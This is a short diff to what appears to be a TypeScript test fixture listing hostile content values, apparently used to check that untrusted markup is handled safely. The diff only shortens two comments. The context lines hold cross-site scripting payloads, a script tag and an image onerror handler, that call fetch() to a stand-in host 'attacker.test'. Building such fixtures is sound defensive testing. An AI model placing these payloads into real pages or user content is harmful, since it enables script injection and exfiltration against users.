@@ -4,7 +4,7 @@ import type { ZooAnimal } from './zoo-animal.ts'
 /** The host that must never be asked: every payload below tries to reach it. */
 export const ATTACKER = 'http://attacker.test'
 
-/** Scripts and markup in content (research/trust.md section 4, X rows). */
+/** Scripts and markup in content. */
 const MARKUP: readonly (readonly [name: string, text: string])[] = [
   ['script', `<script>fetch('${ATTACKER}/x1')</script>`],
   ['imageError', `<img src=x onerror="fetch('${ATTACKER}/x2')">`],
@@ -126,7 +126,7 @@ const rows = (kind: string, list: typeof MARKUP): ZooAnimal[] =>
     request: asked(text),
   }))
 
-/** The X and L rows of research/trust.md section 4 as completions. Not part of the sample. */
+/** Hostile (X) and very large (L) values as completions. Not part of the sample. */
 export const HOSTILE_ANIMALS: readonly ZooAnimal[] = [
   ...rows('markup', MARKUP),
   ...rows('markdown', MARKDOWN),
